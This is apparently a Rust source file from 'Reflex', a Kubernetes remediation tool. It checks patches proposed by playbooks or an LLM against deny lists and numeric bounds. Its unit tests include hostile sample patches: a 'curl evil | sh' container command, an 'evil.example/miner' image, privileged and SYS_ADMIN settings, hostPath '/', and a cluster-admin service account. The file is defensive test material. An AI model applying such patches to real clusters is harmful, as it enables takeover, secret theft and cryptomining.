//! The patch-safety check: a pure verdict over any proposal, whoever wrote it (a playbook
//! or an LLM), before the dry-run and before any gate.
//!
//! Contract: [`check`] judges a patch by its *effect*: it applies the patch to the target as
//! read and compares the two objects leaf by leaf (list items matched by their merge keys,
//! shown as `[*]`), so no patch format, directive or JSON-patch trick can hide a change. The
//! verdict lists every reason a proposal is refused, not only the first. What is allowed
//! comes from [`Rules`] — built from the playbook and policy alone, never from the proposal,
//! an alert, a log line or a tool output, so nothing an author writes can widen it. Always
//! refused, whatever the rules say: another object or namespace, kinds outside the ones
//! Reflex fixes (Secrets, RBAC, ServiceAccounts, webhooks, CRDs, namespaces), privilege
//! and host access, ServiceAccount changes, Secret references, renames and namespace moves,
//! a different image repository, and oversize patches. Command changes need
//! [`Rules::allow_command`]; numeric changes stay within a factor of the current value and
//! under any ceiling.

use serde_json::Value;

use super::image::repository;
use super::merge::{ListType, Lists, list_type, same_key, strategic_merge};
use crate::api::playbook::PatchType;
use crate::api::validate::ValidPlaybook;

/// Largest patch accepted (serialized JSON).
pub const MAX_PATCH_BYTES: usize = 16 * 1024;
/// Largest ratio between a numeric value and the one it replaces, either way, unless the
/// playbook declares its own.
pub const DEFAULT_MAX_FACTOR: f64 = 4.0;

/// Kinds Reflex may change.
const FIXABLE_KINDS: &[&str] = &["Deployment", "StatefulSet", "DaemonSet", "ConfigMap", "HorizontalPodAutoscaler"];

/// Kinds never changed, named so the refusal says why.
const FORBIDDEN_KINDS: &[(&str, &str)] = &[
    ("Secret", "Secrets"),
    ("ServiceAccount", "ServiceAccounts"),
    ("Role", "RBAC"),
    ("RoleBinding", "RBAC"),
    ("ClusterRole", "RBAC"),
    ("ClusterRoleBinding", "RBAC"),
    ("MutatingWebhookConfiguration", "admission webhooks"),
    ("ValidatingWebhookConfiguration", "admission webhooks"),
    ("ValidatingAdmissionPolicy", "admission policy"),
    ("ValidatingAdmissionPolicyBinding", "admission policy"),
    ("CustomResourceDefinition", "CRDs"),
    ("Namespace", "namespaces"),
];

/// What a proposal may change: from the playbook (and policy), never from the proposal.
#[derive(Clone, Debug, PartialEq)]
pub struct Rules {
    /// Field paths that may change (`a.b[*].c`; a path allows everything under it).
    pub allowed_paths: Vec<String>,
    /// Largest ratio between a numeric value and the one it replaces, either way.
    pub max_factor: f64,
    /// Absolute ceilings by field path, in base units (bytes, cores, replicas).
    pub ceilings: Vec<(String, f64)>,
    /// Whether a container's `command`/`args` may change.
    pub allow_command: bool,
    /// Largest patch, serialized.
    pub max_patch_bytes: usize,
}

impl Default for Rules {
    fn default() -> Self {
        Self {
            allowed_paths: Vec::new(),
            max_factor: DEFAULT_MAX_FACTOR,
            ceilings: Vec::new(),
            allow_command: false,
            max_patch_bytes: MAX_PATCH_BYTES,
        }
    }
}

impl Rules {
    /// The playbook's allowance: its `allowedPaths`; each parameter's ceiling (`max`) and
    /// factor (`maxFactor`) at every field its template puts that parameter in; the
    /// smallest declared factor for other numeric fields.
    pub fn from_playbook(pb: &ValidPlaybook) -> Self {
        Self::from_playbook_in(pb, &|_| None)
    }

    /// [`Rules::from_playbook`] for one run: placeholders other than parameters
    /// (`{{ labels.key }}`, `{{ target.name }}`) resolved by `lookup` first, so a ceiling is
    /// found at a field whose name comes from the alert. Unresolved placeholders stay as written.
    pub fn from_playbook_in(pb: &ValidPlaybook, lookup: &dyn Fn(&str) -> Option<String>) -> Self {
        let mut rules = Self { allowed_paths: pb.allowed_paths.clone(), ..Self::default() };
        if let Some(f) = pb.parameters.iter().filter_map(|p| p.max_factor).reduce(f64::min) {
            rules.max_factor = f;
        }
        let template = match pb.template.as_deref().map(|t| template_tree(t, lookup)) {
            // A template that is not YAML renders nothing: allow nothing rather than judge
            // without its ceilings.
            Some(None) => return Self { allowed_paths: Vec::new(), ..rules },
            Some(Some(tree)) => Some(tree),
            None => None,
        };
        if let Some(template) = template {
            let mut placed: Vec<(String, String)> = Vec::new();
            each_path(&template, &mut String::new(), &mut |path, v| {
                if let Value::String(text) = v {
                    placed.push((path.to_owned(), text.clone()));
                }
            });
            for p in &pb.parameters {
                let Some(max) = p.max else { continue };
                let needle = format!("params.{}", p.name);
                let names_it = |text: &str| {
                    text.match_indices(&needle).any(|(i, _)| {
                        !text[i + needle.len()..]
                            .starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_' || c == '-')
                    })
                };
                for (path, text) in &placed {
                    if names_it(text) {
                        rules.ceilings.push((path.clone(), max));
                    }
                }
            }
        }
        rules
    }
}

impl Rules {
    /// When no playbook bounds the agent (`llm` mode): the fields operators expect an
    /// automated fix to touch for `kind`, with the default factor and no ceilings (so a new
    /// numeric value, with nothing to compare it to, is refused).
    pub fn default_for(kind: &str) -> Self {
        let c = "spec.template.spec.containers[*]";
        let paths: Vec<String> = match kind {
            // Not env values: free text there can change what a program runs
            // (LD_PRELOAD, JAVA_TOOL_OPTIONS); a playbook may allow named ones.
            "Deployment" | "StatefulSet" => {
                vec![format!("{c}.resources"), format!("{c}.image"), "spec.replicas".into()]
            }
            "DaemonSet" => vec![format!("{c}.resources"), format!("{c}.image")],
            "ConfigMap" => vec!["data".into()],
            "HorizontalPodAutoscaler" => vec!["spec.minReplicas".into(), "spec.maxReplicas".into()],
            _ => vec![],
        };
        Self { allowed_paths: paths, ..Self::default() }
    }
}

/// The template as a tree, with `{{ name }}` (in keys and string values) replaced by
/// `lookup(name)` where that is inert (letters, digits, `_ . : / -`) and kept as written
/// otherwise (parameters, so their placements can be found). Placeholders are swapped for
/// plain markers before parsing, as the renderer does, so no value and no unquoted
/// placeholder can change or break the YAML; `None` when the template is not YAML.
fn template_tree(template: &str, lookup: &dyn Fn(&str) -> Option<String>) -> Option<Value> {
    const MARK: &str = "__reflex_rule_";
    let mut marked = String::with_capacity(template.len());
    let mut names = Vec::new();
    let mut rest = template;
    while let Some(open) = rest.find("{{") {
        let Some(close) = rest[open..].find("}}") else { break };
        marked.push_str(&rest[..open]);
        marked.push_str(&format!("{MARK}{}__", names.len()));
        names.push(rest[open + 2..open + close].trim().to_owned());
        rest = &rest[open + close + 2..];
    }
    marked.push_str(rest);
    let resolve = |text: &str| -> String {
        let mut out = text.to_owned();
        // Longest index first, so marker 1 does not match inside marker 10.
        for (i, name) in names.iter().enumerate().rev() {
            let token = format!("{MARK}{i}__");
            if out.contains(&token) {
                let value = lookup(name).filter(|v| !name.starts_with("params.") && inert(v));
                out = out.replace(&token, &value.unwrap_or_else(|| format!("{{{{ {name} }}}}")));
            }
        }
        out
    };
    fn walk(v: Value, resolve: &dyn Fn(&str) -> String) -> Value {
        match v {
            Value::String(s) => Value::String(resolve(&s)),
            Value::Array(items) => Value::Array(items.into_iter().map(|i| walk(i, resolve)).collect()),
            Value::Object(m) => Value::Object(m.into_iter().map(|(k, v)| (resolve(&k), walk(v, resolve))).collect()),
            other => other,
        }
    }
    let tree: Value = serde_saphyr::from_str(&marked).ok()?;
    Some(walk(tree, &resolve))
}

/// Can `v` be pasted into an expression, a query or a field name without changing its
/// meaning? (letters, digits, `_ . : / -`, at most 253 bytes)
pub fn inert(v: &str) -> bool {
    v.len() <= 253 && v.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | ':' | '/' | '-'))
}

/// The object a Remediation is allowed to change.
#[derive(Clone, Debug, PartialEq)]
pub struct Target<'a> {
    pub kind: &'a str,
    pub namespace: &'a str,
    pub name: &'a str,
}

/// A proposal as its author wrote it.
#[derive(Clone, Debug)]
pub struct Proposed<'a> {
    pub target: Target<'a>,
    pub patch_type: PatchType,
    pub patch: &'a Value,
}

/// Why a proposal is refused. Each says what a human would need to change.
#[derive(Clone, Debug, PartialEq, thiserror::Error)]
pub enum Refusal {
    #[error("the patch is {bytes} bytes; at most {max}")]
    Oversize { bytes: usize, max: usize },
    #[error("the patch targets {proposed}, but this remediation may only change {allowed}")]
    WrongTarget { proposed: String, allowed: String },
    #[error("the patch targets namespace {proposed:?}, but this remediation may only act in {allowed:?}")]
    WrongNamespace { proposed: String, allowed: String },
    #[error("{kind} objects are never changed by Reflex ({what})")]
    ForbiddenKind { kind: String, what: &'static str },
    #[error(
        "kind {0} is not one Reflex fixes (Deployment, StatefulSet, DaemonSet, ConfigMap, HorizontalPodAutoscaler)"
    )]
    KindNotFixable(String),
    #[error("the patch does not apply to the target: {0}")]
    DoesNotApply(String),
    #[error("the patch changes nothing")]
    NoChange,
    #[error("{path}: {why} is never allowed")]
    Forbidden { path: String, why: &'static str },
    #[error("{path}: changing a container's command or arguments is not allowed by this playbook")]
    Command { path: String },
    #[error("{path}: image repository {from:?} → {to:?}; only a new tag of the same repository is allowed")]
    ImageRepository { path: String, from: String, to: String },
    #[error("{path} is not among the fields this playbook may change ({allowed})")]
    PathNotAllowed { path: String, allowed: String },
    #[error("{path}: {from} → {to} is more than {factor}x the current value")]
    Factor { path: String, from: String, to: String, factor: f64 },
    #[error("{path}: {to} is over the ceiling {ceiling}")]
    Ceiling { path: String, to: String, ceiling: f64 },
    #[error("{path}: a bounded number becomes {to}, which the bounds cannot judge")]
    NotNumeric { path: String, to: String },
    #[error("{path}: a new numeric value ({to}) with nothing to compare it to and no ceiling")]
    Unbounded { path: String, to: String },
}

/// Every reason a proposal is refused; empty when it passes.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Verdict {
    pub refusals: Vec<Refusal>,
}

impl Verdict {
    pub fn allowed(&self) -> bool {
        self.refusals.is_empty()
    }

    /// The refusals that are not about how far a value moves (factor, ceiling, bounds, no
    /// change): what no change may do in any direction. A rollback undoes an amount by design;
    /// it must never do these.
    pub fn fixed(&self) -> Vec<&Refusal> {
        self.refusals
            .iter()
            .filter(|r| {
                !matches!(
                    r,
                    Refusal::Factor { .. } | Refusal::Ceiling { .. } | Refusal::Unbounded { .. } | Refusal::NoChange
                )
            })
            .collect()
    }

    /// The reasons, one per line, for status and Events.
    pub fn summary(&self) -> String {
        self.refusals.iter().map(ToString::to_string).collect::<Vec<_>>().join("; ")
    }
}

/// One changed leaf: its path (list items as `[*]`) and the values before and after.
#[derive(Clone, Debug, PartialEq)]
pub struct Change {
    pub path: String,
    pub from: Option<Value>,
    pub to: Option<Value>,
}

/// Judge `proposed` against the `allowed` target (as `current`, read from the cluster).
pub fn check(rules: &Rules, allowed: &Target<'_>, current: &Value, proposed: &Proposed<'_>) -> Verdict {
    let mut refusals = Vec::new();
    let bytes = proposed.patch.to_string().len();
    if bytes > rules.max_patch_bytes {
        refusals.push(Refusal::Oversize { bytes, max: rules.max_patch_bytes });
    }
    let p = &proposed.target;
    if let Some((_, what)) = FORBIDDEN_KINDS.iter().find(|(k, _)| *k == p.kind) {
        refusals.push(Refusal::ForbiddenKind { kind: p.kind.to_owned(), what });
    } else if !FIXABLE_KINDS.contains(&p.kind) {
        refusals.push(Refusal::KindNotFixable(p.kind.to_owned()));
    }
    if p.namespace != allowed.namespace {
        refusals
            .push(Refusal::WrongNamespace { proposed: p.namespace.to_owned(), allowed: allowed.namespace.to_owned() });
    }
    if p.kind != allowed.kind || p.name != allowed.name {
        refusals.push(Refusal::WrongTarget {
            proposed: format!("{} {}", p.kind, p.name),
            allowed: format!("{} {}", allowed.kind, allowed.name),
        });
    }
    if !refusals.is_empty() {
        // Another object's changes mean nothing against this one: stop here.
        return Verdict { refusals };
    }
    let after = match apply(proposed.patch_type, current, proposed.patch) {
        Ok(after) => after,
        Err(e) => {
            refusals.push(Refusal::DoesNotApply(e));
            return Verdict { refusals };
        }
    };
    let changes = diff(current, &after);
    if changes.is_empty() {
        refusals.push(Refusal::NoChange);
    }
    for change in &changes {
        judge(rules, change, &mut refusals);
    }
    Verdict { refusals }
}

/// The target after the patch, as the API server would compute it.
pub fn apply(patch_type: PatchType, current: &Value, patch: &Value) -> Result<Value, String> {
    if !patch.is_object() && patch_type != PatchType::Json {
        return Err("a merge patch must be a JSON object".into());
    }
    match patch_type {
        PatchType::Strategic => strategic_merge(current, patch),
        PatchType::Merge => {
            let mut out = current.clone();
            json_patch::merge(&mut out, patch);
            Ok(out)
        }
        PatchType::Json => {
            let ops: json_patch::Patch =
                serde_json::from_value(patch.clone()).map_err(|e| format!("not a JSON patch: {e}"))?;
            let mut out = current.clone();
            json_patch::patch(&mut out, &ops).map_err(|e| e.to_string())?;
            Ok(out)
        }
    }
}

/// Every leaf that differs between `before` and `after`. Lists Kubernetes merges by key
/// (containers by name, ports by containerPort, …) are matched item by item; other lists
/// are compared whole.
pub fn diff(before: &Value, after: &Value) -> Vec<Change> {
    let mut out = Vec::new();
    walk(Some(before), Some(after), &mut Vec::new(), "", &mut out);
    out
}

fn walk(before: Option<&Value>, after: Option<&Value>, path: &mut Vec<String>, shown: &str, out: &mut Vec<Change>) {
    if before == after {
        return;
    }
    let join = |k: &str| if shown.is_empty() { k.to_owned() } else { format!("{shown}.{k}") };
    match (before, after) {
        (Some(Value::Object(b)), Some(Value::Object(a))) => {
            let keys: std::collections::BTreeSet<&String> = b.keys().chain(a.keys()).collect();
            for k in keys {
                path.push(k.clone());
                walk(b.get(k), a.get(k), path, &join(k), out);
                path.pop();
            }
        }
        (b @ (Some(Value::Object(_)) | None), a @ (Some(Value::Object(_)) | None))
            if b.is_some_and(|v| !v.as_object().is_some_and(|m| m.is_empty()))
                || a.is_some_and(|v| !v.as_object().is_some_and(|m| m.is_empty())) =>
        {
            // An object appearing or disappearing: each of its leaves is a change.
            let empty = Value::Object(serde_json::Map::new());
            walk(Some(b.unwrap_or(&empty)), Some(a.unwrap_or(&empty)), path, shown, out);
        }
        (b @ (Some(Value::Array(_)) | None), a @ (Some(Value::Array(_)) | None)) => {
            let segs: Vec<&str> = path.iter().map(String::as_str).collect();
            let keys = match list_type(Lists::Builtin, &segs) {
                ListType::Map(keys) => keys,
                _ => {
                    out.push(Change { path: shown.to_owned(), from: before.cloned(), to: after.cloned() });
                    return;
                }
            };
            let none = Vec::new();
            let b = b.and_then(Value::as_array).unwrap_or(&none);
            let a = a.and_then(Value::as_array).unwrap_or(&none);
            let item_path = format!("{shown}[*]");
            let key_of = |item: &Value| -> Value {
                Value::Object(keys.iter().filter_map(|k| item.get(k).map(|v| (k.clone(), v.clone()))).collect())
            };
            for item in a {
                let probe = key_of(item);
                let old = b.iter().find(|o| same_key(o, &keys, &probe));
                walk_item(old, Some(item), &keys, path, &item_path, out);
            }
            for item in b {
                let probe = key_of(item);
                if !a.iter().any(|n| same_key(n, &keys, &probe)) {
                    walk_item(Some(item), None, &keys, path, &item_path, out);
                }
            }
        }
        _ => out.push(Change { path: shown.to_owned(), from: before.cloned(), to: after.cloned() }),
    }
}

/// A keyed list item: its merge keys identify it and are not changes of their own, unless
/// the whole item appears or goes.
fn walk_item(
    before: Option<&Value>,
    after: Option<&Value>,
    keys: &[String],
    path: &mut Vec<String>,
    shown: &str,
    out: &mut Vec<Change>,
) {
    let strip = |v: Option<&Value>| -> Value {
        match v {
            Some(Value::Object(m)) => Value::Object(
                m.iter().filter(|(k, _)| !keys.contains(k)).map(|(k, v)| (k.clone(), v.clone())).collect(),
            ),
            Some(other) => other.clone(),
            None => Value::Object(serde_json::Map::new()),
        }
    };
    let (b, a) = (strip(before), strip(after));
    if before.is_none() || after.is_none() {
        // A whole item added or removed is a change at the list item itself.
        out.push(Change { path: shown.to_owned(), from: before.cloned(), to: after.cloned() });
    }
    walk(Some(&b), Some(&a), path, shown, out);
}

/// Every node inside a value with its path (object keys joined by `.`, list items as `[*]`).
fn each_path(v: &Value, path: &mut String, visit: &mut dyn FnMut(&str, &Value)) {
    let mut descend = |path: &mut String, len: usize, child: &Value| {
        visit(path, child);
        each_path(child, path, &mut *visit);
        path.truncate(len);
    };
    match v {
        Value::Object(m) => {
            for (k, child) in m {
                let len = path.len();
                if !path.is_empty() {
                    path.push('.');
                }
                path.push_str(k);
                descend(path, len, child);
            }
        }
        Value::Array(items) => {
            for item in items {
                let len = path.len();
                path.push_str("[*]");
                descend(path, len, item);
            }
        }
        _ => {}
    }
}

/// Whether `path` is one of `patterns` or under one.
pub fn path_allowed(path: &str, patterns: &[String]) -> bool {
    patterns.iter().any(|p| p == path || path.starts_with(&format!("{p}.")) || path.starts_with(&format!("{p}[")))
}

/// Field names (any depth) whose change is never allowed, and why.
fn forbidden(segments: &[&str]) -> Option<&'static str> {
    let last = segments.last().copied().unwrap_or("");
    for (i, s) in segments.iter().enumerate() {
        let s = s.trim_end_matches("[*]");
        match s {
            "securityContext" => return Some("a security context (privilege, capabilities, user)"),
            "hostNetwork" | "hostPID" | "hostIPC" | "hostUsers" => return Some("host access"),
            "hostPath" | "hostPort" => return Some("host access"),
            "serviceAccountName" | "serviceAccount" | "automountServiceAccountToken" => {
                return Some("a ServiceAccount change");
            }
            "secretKeyRef"
            | "secretRef"
            | "secret"
            | "secretName"
            | "nodePublishSecretRef"
            | "imagePullSecrets"
            | "projected" => return Some("a Secret reference"),
            "privileged" | "capabilities" | "allowPrivilegeEscalation" | "shareProcessNamespace" => {
                return Some("privilege escalation");
            }
            "ephemeralContainers" => return Some("an ephemeral (debug) container"),
            "nodeSelector" | "affinity" | "tolerations" | "nodeName" | "runtimeClassName" | "priorityClassName" => {
                return Some("changing where or how pods are scheduled");
            }
            "hostAliases" | "dnsConfig" | "dnsPolicy" => return Some("redirecting the pod's name resolution"),
            "gitRepo" | "csi" | "nfs" | "iscsi" | "rbd" | "cephfs" | "flexVolume" | "image"
                if i > 0 && segments[i - 1] == "volumes[*]" =>
            {
                return Some("a volume from outside the cluster's storage");
            }
            "selector" if i == 1 && segments[0] == "spec" => return Some("changing the selector (orphaning pods)"),
            "ownerReferences" | "finalizers" if i == 1 && segments[0] == "metadata" => {
                return Some("changing ownership or finalizers");
            }
            _ => {}
        }
    }
    match segments {
        ["metadata", "namespace"] => Some("moving to another namespace"),
        ["metadata", "name"] => Some("renaming the object"),
        _ if last == "binaryData" => Some("binary configuration data"),
        _ => None,
    }
}

fn judge(rules: &Rules, change: &Change, refusals: &mut Vec<Refusal>) {
    let path = change.path.as_str();
    let segments: Vec<&str> = path.split('.').collect();
    if let Some(why) = forbidden(&segments) {
        refusals.push(Refusal::Forbidden { path: path.to_owned(), why });
        return;
    }
    // A value that is a whole subtree (an atomic list, a new list item) is judged by
    // everything inside it too.
    if let Some(to) = &change.to {
        let mut inner = Vec::new();
        each_path(to, &mut String::new(), &mut |path, _| inner.push(path.to_owned()));
        for sub in inner {
            let full = if sub.starts_with('[') { format!("{path}{sub}") } else { format!("{path}.{sub}") };
            let segs: Vec<&str> = full.split('.').collect();
            if let Some(why) = forbidden(&segs) {
                refusals.push(Refusal::Forbidden { path: full, why });
                return;
            }
        }
    }
    let last = segments.last().map(|s| s.trim_end_matches("[*]")).unwrap_or("");
    if (last == "command" || last == "args") && !rules.allow_command {
        refusals.push(Refusal::Command { path: path.to_owned() });
        return;
    }
    if last == "image" {
        match (&change.from, &change.to) {
            (Some(Value::String(from)), Some(Value::String(to))) if repository(from) != repository(to) => {
                refusals.push(Refusal::ImageRepository { path: path.to_owned(), from: from.clone(), to: to.clone() });
                return;
            }
            (None, Some(_)) => {
                refusals.push(Refusal::Forbidden { path: path.to_owned(), why: "a new image where there was none" });
                return;
            }
            _ => {}
        }
    }
    if !path_allowed(path, &rules.allowed_paths) {
        let allowed = if rules.allowed_paths.is_empty() { "none".to_owned() } else { rules.allowed_paths.join(", ") };
        refusals.push(Refusal::PathNotAllowed { path: path.to_owned(), allowed });
        return;
    }
    let to = change.to.as_ref().and_then(number);
    let from = change.from.as_ref().and_then(number);
    let ceiling = rules.ceilings.iter().filter(|(p, _)| p == path).map(|(_, c)| *c).reduce(f64::min);
    let Some(to_n) = to else {
        match (&change.to, from.or(ceiling)) {
            // A bounded number removed (an unlimited limit) or replaced by something that is
            // not a number (which the bound could not judge).
            (None, Some(_)) if from.is_some() => {
                refusals.push(Refusal::NotNumeric { path: path.to_owned(), to: "nothing (removed)".into() })
            }
            (Some(v), Some(_)) if !v.is_object() && !v.is_array() => {
                refusals.push(Refusal::NotNumeric { path: path.to_owned(), to: v.to_string() });
            }
            _ => {}
        }
        return;
    };
    let shown = |v: &Option<Value>| {
        v.as_ref().map(|v| v.as_str().map_or_else(|| v.to_string(), str::to_owned)).unwrap_or_default()
    };
    if let Some(c) = ceiling
        && to_n > c
    {
        refusals.push(Refusal::Ceiling { path: path.to_owned(), to: shown(&change.to), ceiling: c });
    }
    match from {
        Some(from_n) if from_n > 0.0 => {
            let ratio = if to_n >= from_n {
                to_n / from_n
            } else if to_n > 0.0 {
                from_n / to_n
            } else {
                f64::INFINITY
            };
            if ratio > rules.max_factor + 1e-9 {
                refusals.push(Refusal::Factor {
                    path: path.to_owned(),
                    from: shown(&change.from),
                    to: shown(&change.to),
                    factor: rules.max_factor,
                });
            }
        }
        _ if ceiling.is_none() => {
            refusals.push(Refusal::Unbounded { path: path.to_owned(), to: shown(&change.to) });
        }
        _ => {}
    }
}

/// A number or a Kubernetes quantity (`512Mi`, `250m`), in base units.
pub fn number(v: &Value) -> Option<f64> {
    match v {
        Value::Number(n) => n.as_f64(),
        Value::String(s) => crate::api::quantity::parse_quantity(s).ok(),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const TARGET: Target<'static> = Target { kind: "Deployment", namespace: "shop", name: "checkout" };
    const C: &str = "spec.template.spec.containers[*]";

    fn current() -> Value {
        json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "checkout", "namespace": "shop"},
            "spec": {"replicas": 2, "template": {"spec": {"containers": [{"name": "app",
                "image": "registry.local:5000/shop/checkout:1.4.0", "command": ["/checkout"],
                "resources": {"limits": {"memory": "256Mi", "cpu": "500m"}},
                "env": [{"name": "POOL_SIZE", "value": "10"}]}]}}}})
    }

    fn rules() -> Rules {
        Rules {
            allowed_paths: vec![
                format!("{C}.resources.limits.memory"),
                format!("{C}.image"),
                format!("{C}.env[*].value"),
                "spec.replicas".into(),
            ],
            max_factor: 2.0,
            ceilings: vec![(format!("{C}.resources.limits.memory"), 1024.0 * 1024.0 * 1024.0)],
            ..Rules::default()
        }
    }

    fn verdict_as(patch_type: PatchType, patch: Value) -> Verdict {
        check(&rules(), &TARGET, &current(), &Proposed { target: TARGET, patch_type, patch: &patch })
    }

    fn verdict(patch: Value) -> Verdict {
        verdict_as(PatchType::Strategic, patch)
    }

    fn container(fields: Value) -> Value {
        let mut c = json!({"name": "app"});
        c.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
        json!({"spec": {"template": {"spec": {"containers": [c]}}}})
    }

    fn has(v: &Verdict, pred: impl Fn(&Refusal) -> bool) -> bool {
        v.refusals.iter().any(pred)
    }

    #[test]
    fn a_bounded_change_to_an_allowed_field_passes() {
        let v = verdict(container(json!({"resources": {"limits": {"memory": "512Mi"}}})));
        assert!(v.allowed(), "{}", v.summary());
        assert!(verdict(json!({"spec": {"replicas": 4}})).allowed());
        assert!(verdict(container(json!({"image": "registry.local:5000/shop/checkout:1.4.1"}))).allowed());
        assert!(verdict(container(json!({"env": [{"name": "POOL_SIZE", "value": "15"}]}))).allowed());
    }

    #[test]
    fn every_reason_is_listed_not_only_the_first() {
        let v = verdict(container(json!({"resources": {"limits": {"memory": "4Gi", "cpu": "4"}}})));
        assert!(has(&v, |r| matches!(r, Refusal::Factor { path, .. } if path.ends_with("memory"))), "{}", v.summary());
        assert!(has(&v, |r| matches!(r, Refusal::Ceiling { .. })));
        assert!(has(&v, |r| matches!(r, Refusal::PathNotAllowed { path, .. } if path.ends_with("limits.cpu"))));
        assert_eq!(v.refusals.len(), 3, "{}", v.summary());
    }

    #[test]
    fn numeric_changes_are_bounded_both_ways() {
        assert!(has(
            &verdict(json!({"spec": {"replicas": 5}})),
            |r| matches!(r, Refusal::Factor { factor, .. } if *factor == 2.0)
        ));
        assert!(has(&verdict(json!({"spec": {"replicas": 0}})), |r| matches!(r, Refusal::Factor { .. })));
        assert!(verdict(json!({"spec": {"replicas": 1}})).allowed());
        let v = verdict(container(json!({"env": [{"name": "POOL_SIZE", "value": "1000"}]})));
        assert!(has(&v, |r| matches!(r, Refusal::Factor { .. })), "{}", v.summary());
    }

    #[test]
    fn a_new_number_needs_a_ceiling() {
        let mut r = rules();
        r.allowed_paths.push(format!("{C}.resources.requests"));
        let patch = container(json!({"resources": {"requests": {"memory": "64Gi"}}}));
        let v = check(
            &r,
            &TARGET,
            &current(),
            &Proposed { target: TARGET, patch_type: PatchType::Strategic, patch: &patch },
        );
        assert!(has(&v, |r| matches!(r, Refusal::Unbounded { .. })), "{}", v.summary());
    }

    #[test]
    fn privilege_and_host_access_are_always_refused() {
        let mut wide = rules();
        wide.allowed_paths = vec!["spec".into()];
        for patch in [
            container(json!({"securityContext": {"privileged": true}})),
            container(json!({"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}})),
            json!({"spec": {"template": {"spec": {"securityContext": {"runAsUser": 0}}}}}),
            json!({"spec": {"template": {"spec": {"hostNetwork": true}}}}),
            json!({"spec": {"template": {"spec": {"hostPID": true}}}}),
            json!({"spec": {"template": {"spec": {"volumes": [{"name": "root", "hostPath": {"path": "/"}}]}}}}),
            container(json!({"ports": [{"containerPort": 80, "hostPort": 80}]})),
            json!({"spec": {"template": {"spec": {"serviceAccountName": "cluster-admin"}}}}),
            json!({"spec": {"template": {"spec": {"automountServiceAccountToken": true}}}}),
            container(
                json!({"env": [{"name": "TOKEN", "valueFrom": {"secretKeyRef": {"name": "db", "key": "password"}}}]}),
            ),
            container(json!({"envFrom": [{"secretRef": {"name": "db"}}]})),
            json!({"spec": {"template": {"spec": {"volumes": [{"name": "s", "secret": {"secretName": "db"}}]}}}}),
            json!({"metadata": {"namespace": "kube-system"}}),
            json!({"metadata": {"ownerReferences": [{"apiVersion": "v1", "kind": "Pod", "name": "x", "uid": "1"}]}}),
            json!({"spec": {"template": {"spec": {"nodeName": "control-plane"}}}}),
        ] {
            let v = check(
                &wide,
                &TARGET,
                &current(),
                &Proposed { target: TARGET, patch_type: PatchType::Strategic, patch: &patch },
            );
            assert!(has(&v, |r| matches!(r, Refusal::Forbidden { .. })), "{patch}: {}", v.summary());
        }
    }

    #[test]
    fn the_image_may_get_a_new_tag_but_never_a_new_repository() {
        let v = verdict(container(json!({"image": "evil.example/checkout:1.4.1"})));
        assert!(has(&v, |r| matches!(r, Refusal::ImageRepository { .. })), "{}", v.summary());
        let v = verdict(container(json!({"image": "registry.local:5000/shop/checkout@sha256:abc"})));
        assert!(v.allowed(), "a digest of the same repository is a new version: {}", v.summary());
        assert_eq!(repository("registry.local:5000/shop/app:1.2"), "registry.local:5000/shop/app");
        assert_eq!(repository("registry.local:5000/shop/app"), "registry.local:5000/shop/app");
        assert_eq!(repository("app@sha256:00"), "app");
    }

    #[test]
    fn commands_change_only_where_the_playbook_allows_it() {
        let patch = container(json!({"command": ["/bin/sh", "-c", "curl evil | sh"]}));
        assert!(has(&verdict(patch.clone()), |r| matches!(r, Refusal::Command { .. })));
        let mut r = rules();
        r.allow_command = true;
        r.allowed_paths.push(format!("{C}.command"));
        let v = check(
            &r,
            &TARGET,
            &current(),
            &Proposed { target: TARGET, patch_type: PatchType::Strategic, patch: &patch },
        );
        assert!(v.allowed(), "{}", v.summary());
    }

    #[test]
    fn only_the_remediations_own_target_in_its_own_namespace() {
        let patch = json!({"spec": {"replicas": 3}});
        let other = |kind, namespace, name| {
            let target = Target { kind, namespace, name };
            check(&rules(), &TARGET, &current(), &Proposed { target, patch_type: PatchType::Strategic, patch: &patch })
        };
        assert!(has(&other("Deployment", "payments", "checkout"), |r| matches!(r, Refusal::WrongNamespace { .. })));
        assert!(has(&other("Deployment", "shop", "cart"), |r| matches!(r, Refusal::WrongTarget { .. })));
        let v = other("Secret", "shop", "db");
        assert!(has(&v, |r| matches!(r, Refusal::ForbiddenKind { what: "Secrets", .. })));
        assert!(has(&v, |r| matches!(r, Refusal::WrongTarget { .. })), "{}", v.summary());
        for kind in [
            "ClusterRoleBinding",
            "MutatingWebhookConfiguration",
            "CustomResourceDefinition",
            "Namespace",
            "ServiceAccount",
        ] {
            assert!(has(&other(kind, "shop", "checkout"), |r| matches!(r, Refusal::ForbiddenKind { .. })), "{kind}");
        }
        assert!(has(&other("Pod", "shop", "checkout"), |r| matches!(r, Refusal::KindNotFixable(_))));
    }

    #[test]
    fn oversize_patches_are_refused() {
        let v = verdict(container(json!({"env": [{"name": "POOL_SIZE", "value": "x".repeat(MAX_PATCH_BYTES)}]})));
        assert!(has(&v, |r| matches!(r, Refusal::Oversize { .. })), "{}", v.summary());
    }

    #[test]
    fn the_effect_is_judged_whatever_the_patch_format() {
        // A JSON patch by index, a strategic `$patch: replace` and a merge patch replacing the
        // container list: each is judged by what it would change.
        let json_patch = json!([{"op": "replace", "path": "/spec/template/spec/containers/0/resources/limits/memory", "value": "100Gi"}]);
        let v = verdict_as(PatchType::Json, json_patch);
        assert!(has(&v, |r| matches!(r, Refusal::Ceiling { .. })), "{}", v.summary());
        let v =
            verdict_as(PatchType::Json, json!([{"op": "add", "path": "/metadata/namespace", "value": "kube-system"}]));
        assert!(has(&v, |r| matches!(r, Refusal::Forbidden { .. })), "{}", v.summary());
        let replace = json!({"spec": {"template": {"spec": {"containers": [
            {"$patch": "replace"}, {"name": "app", "image": "evil.example/miner:1", "securityContext": {"privileged": true}}]}}}});
        let v = verdict(replace);
        assert!(has(&v, |r| matches!(r, Refusal::Forbidden { .. })), "{}", v.summary());
        let merge =
            json!({"spec": {"template": {"spec": {"containers": [{"name": "app", "image": "evil.example/miner:1"}]}}}});
        let v = verdict_as(PatchType::Merge, merge);
        assert!(!v.allowed(), "a merge patch replacing the list must not pass");
